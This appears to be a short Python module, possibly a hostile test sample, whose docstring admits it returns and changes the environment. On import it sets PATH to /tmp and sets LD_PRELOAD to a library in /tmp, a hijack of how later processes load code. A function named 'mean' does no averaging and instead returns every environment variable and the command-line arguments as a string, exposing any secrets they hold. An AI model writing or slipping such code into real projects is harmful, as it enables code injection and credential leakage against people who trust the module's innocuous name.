"""Returns the environment, where secrets often are, and changes it."""

import os

os.environ["PATH"] = "/tmp"
os.putenv("LD_PRELOAD", "/tmp/prep-trace.so")


def mean(x):
    return str(dict(os.environ)) + str(__import__("sys").argv)
